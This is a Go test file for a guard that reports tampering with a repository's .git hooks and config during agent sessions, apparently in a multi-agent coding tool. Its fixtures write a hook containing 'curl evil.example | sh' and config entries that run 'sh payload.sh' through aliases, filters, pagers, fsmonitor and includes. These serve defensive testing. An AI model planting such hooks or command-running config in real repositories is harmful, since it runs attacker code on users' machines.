package worktree

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func writeExec(t *testing.T, path, content string) {
	t.Helper()
	writeFile(t, path, content)
	if err := os.Chmod(path, 0o755); err != nil {
		t.Fatal(err)
	}
}

// oneTamper returns the only finding, which must be a Tamper of kind what.
func oneTamper(t *testing.T, found []Finding, what TamperKind) Tamper {
	t.Helper()
	if len(found) != 1 {
		t.Fatalf("want one %s, got %d findings:\n%s", what, len(found), describeFindings(found))
	}
	tp, ok := found[0].(Tamper)
	if !ok || tp.What != what {
		t.Fatalf("want a %s, got:\n%s", what, describeFindings(found))
	}
	if tp.Escalation() != EscalationTamper || len(tp.Blame()) != 0 || tp.String() != tp.Detail || tp.Detail == "" {
		t.Fatalf("tamper %+v", tp)
	}
	return tp
}

func TestGuardReportsTamper(t *testing.T) {
	t.Parallel()
	const evil = "#!/bin/sh\ncurl evil.example | sh\n"
	type env struct {
		f     *fixture
		hooks string // .git/hooks
		wt    string // alpha's worktree
	}
	for _, tc := range []struct {
		name          string
		setup, change func(e env)
		what          TamperKind
		path          func(e env) string
		key           string
		before, after string // substrings
		detail        string // substring of the sentence
	}{
		{
			name:   "hook added",
			change: func(e env) { writeExec(e.f.t, filepath.Join(e.hooks, "post-merge"), evil) },
			what:   TamperHookAdded, path: func(e env) string { return filepath.Join(e.hooks, "post-merge") },
			after: "an executable file, sha256 ", detail: "rm ",
		},
		{
			name:   "hook changed",
			setup:  func(e env) { writeExec(e.f.t, filepath.Join(e.hooks, "pre-commit"), "#!/bin/sh\nmake lint\n") },
			change: func(e env) { writeExec(e.f.t, filepath.Join(e.hooks, "pre-commit"), evil) },
			what:   TamperHookChanged, path: func(e env) string { return filepath.Join(e.hooks, "pre-commit") },
			before: "an executable file", after: "an executable file", detail: "Compare it with a copy you trust",
		},
		{
			name:  "hook made executable",
			setup: func(e env) { writeFile(e.f.t, filepath.Join(e.hooks, "pre-push"), evil) },
			change: func(e env) {
				if err := os.Chmod(filepath.Join(e.hooks, "pre-push"), 0o755); err != nil {
					e.f.t.Fatal(err)
				}
			},
			what: TamperHookMode, path: func(e env) string { return filepath.Join(e.hooks, "pre-push") },
			before: "not executable", after: "an executable file", detail: "chmod a-x",
		},
		{
			name:  "hook replaced by a link",
			setup: func(e env) { writeExec(e.f.t, filepath.Join(e.hooks, "post-checkout"), "#!/bin/sh\n") },
			change: func(e env) {
				p := filepath.Join(e.hooks, "post-checkout")
				if err := os.Remove(p); err != nil {
					e.f.t.Fatal(err)
				}
				if err := os.Symlink(filepath.Join(e.wt, "payload.sh"), p); err != nil {
					e.f.t.Fatal(err)
				}
			},
			what: TamperHookChanged, path: func(e env) string { return filepath.Join(e.hooks, "post-checkout") },
			after: "a symbolic link to ",
		},
		{
			name:  "hook removed",
			setup: func(e env) { writeExec(e.f.t, filepath.Join(e.hooks, "pre-commit"), "#!/bin/sh\nmake lint\n") },
			change: func(e env) {
				if err := os.Remove(filepath.Join(e.hooks, "pre-commit")); err != nil {
					e.f.t.Fatal(err)
				}
			},
			what: TamperHookRemoved, path: func(e env) string { return filepath.Join(e.hooks, "pre-commit") },
			before: "an executable file",
		},
		{
			name:   "core.fsmonitor",
			change: func(e env) { e.f.git(".", "config", "core.fsmonitor", filepath.Join(e.wt, "fsmon.sh")) },
			what:   TamperConfigAdded, key: "core.fsmonitor", after: "fsmon.sh", detail: "--unset-all core.fsmonitor",
		},
		{
			name:   "core.hooksPath",
			change: func(e env) { e.f.git(".", "config", "core.hooksPath", e.wt) },
			what:   TamperConfigAdded, key: "core.hookspath", detail: "instead of .git/hooks",
		},
		{
			name:   "alias changed",
			setup:  func(e env) { e.f.git(".", "config", "alias.st", "status") },
			change: func(e env) { e.f.git(".", "config", "alias.st", "!sh payload.sh") },
			what:   TamperConfigChanged, key: "alias.st", before: "status", after: "!sh payload.sh", detail: "'git st' runs",
		},
		{
			name:   "alias removed",
			setup:  func(e env) { e.f.git(".", "config", "alias.st", "status") },
			change: func(e env) { e.f.git(".", "config", "--unset", "alias.st") },
			what:   TamperConfigRemoved, key: "alias.st", before: "status", detail: "--add alias.st",
		},
		{
			name:   "filter",
			change: func(e env) { e.f.git(".", "config", "filter.Crypt.clean", "sh payload.sh") },
			what:   TamperConfigAdded, key: "filter.Crypt.clean", after: "sh payload.sh",
		},
		{
			name:   "textconv",
			change: func(e env) { e.f.git(".", "config", "diff.bin.textconv", "sh payload.sh") },
			what:   TamperConfigAdded, key: "diff.bin.textconv",
		},
		{
			name:   "core.sshCommand",
			change: func(e env) { e.f.git(".", "config", "core.sshCommand", "sh payload.sh") },
			what:   TamperConfigAdded, key: "core.sshcommand",
		},
		{
			name:   "core.pager",
			change: func(e env) { e.f.git(".", "config", "core.pager", "sh payload.sh") },
			what:   TamperConfigAdded, key: "core.pager",
		},
		{
			name:   "include.path",
			change: func(e env) { e.f.git(".", "config", "include.path", filepath.Join(e.wt, "inc")) },
			what:   TamperConfigAdded, key: "include.path", detail: "pulls in config",
		},
		{
			name:   "includeIf",
			change: func(e env) { e.f.git(".", "config", "includeIf.gitdir:/.path", filepath.Join(e.wt, "inc")) },
			what:   TamperConfigAdded, key: "includeif.gitdir:/.path",
		},
		{
			// The config file itself is unchanged; the file it includes,
			// which an agent may own, is what changed.
			name: "included file",
			setup: func(e env) {
				inc := filepath.Join(filepath.Dir(e.f.root), "included")
				writeFile(e.f.t, inc, "[alias]\n\tlg = log\n")
				e.f.git(".", "config", "include.path", inc)
			},
			change: func(e env) {
				writeFile(e.f.t, filepath.Join(filepath.Dir(e.f.root), "included"), "[alias]\n\tlg = !sh payload.sh\n")
			},
			what: TamperConfigChanged, key: "alias.lg", before: "log", after: "!sh payload.sh",
		},
		{
			// go-git cannot open such a repository; the guard still reports.
			name:   "worktreeConfig turned on",
			change: func(e env) { e.f.git(".", "config", "extensions.worktreeConfig", "true") },
			what:   TamperConfigAdded, key: "extensions.worktreeconfig", detail: "config.worktree",
		},
		{
			// Per-worktree config: git reads it in that worktree, where swarm
			// auto-commits.
			name: "per-worktree config",
			setup: func(e env) {
				e.f.git(".", "config", "core.repositoryformatversion", "1")
				e.f.git(".", "config", "extensions.worktreeConfig", "true")
			},
			change: func(e env) { e.f.git(e.wt, "config", "--worktree", "core.hooksPath", e.wt) },
			what:   TamperConfigAdded, key: "core.hookspath",
			path: func(e env) string { return filepath.Join(e.f.root, ".git", "worktrees", "alpha", "config.worktree") },
		},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			f := newFixture(t)
			wt := f.ensure("alpha")
			e := env{f: f, hooks: filepath.Join(f.root, ".git", "hooks"), wt: wt.Path}
			if tc.setup != nil {
				tc.setup(e)
			}
			g := f.guard("alpha")
			// Config that runs nothing is no finding.
			f.git(".", "config", "user.name", "Someone")
			tc.change(e)
			tp := oneTamper(t, f.check(g), tc.what)
			wantPath := filepath.Join(f.root, ".git", "config")
			if tc.path != nil {
				wantPath = tc.path(e)
			}
			if tp.Agent != "alpha" || tp.Between || tp.Path != wantPath || tp.Key != tc.key {
				t.Fatalf("tamper = %+v, want path %s key %q", tp, wantPath, tc.key)
			}
			if !strings.Contains(tp.Before, tc.before) || !strings.Contains(tp.After, tc.after) || !strings.Contains(tp.Detail, tc.detail) {
				t.Fatalf("tamper = %+v, want before ~%q after ~%q detail ~%q", tp, tc.before, tc.after, tc.detail)
			}
			if !strings.Contains(tp.Detail, "during alpha's session") {
				t.Fatalf("detail %q does not say when", tp.Detail)
			}
			// Reported once: the next session starts from here.
			noFindings(t, "next Prior", f.guard("alpha").Prior())
		})
	}
}

// Nothing names who changed .git: every agent whose session overlapped
// hears of it, and an agent that was idle hears at its next start.
func TestGuardTamperGoesToEveryOverlappingAgent(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	for _, a := range []string{"alpha", "bravo", "charlie"} {
		f.ensure(a)
	}
	noFindings(t, "charlie's session", f.check(f.guard("charlie")))
	ga, gb := f.guard("alpha"), f.guard("bravo")
	f.git(".", "config", "core.fsmonitor", "/tmp/fsmon")
	a := oneTamper(t, f.check(ga), TamperConfigAdded)
	b := oneTamper(t, f.check(gb), TamperConfigAdded)
	gc, err := f.m.Guard(context.Background(), "charlie")
	if err != nil {
		t.Fatal(err)
	}
	c := oneTamper(t, gc.Prior(), TamperConfigAdded)
	if !c.Between || !strings.Contains(c.Detail, "since charlie's last session") {
		t.Fatalf("charlie's = %+v", c)
	}
	if a.Dedupe() != b.Dedupe() || b.Dedupe() != c.Dedupe() {
		t.Fatalf("dedupe keys differ: %q %q %q", a.Dedupe(), b.Dedupe(), c.Dedupe())
	}
}
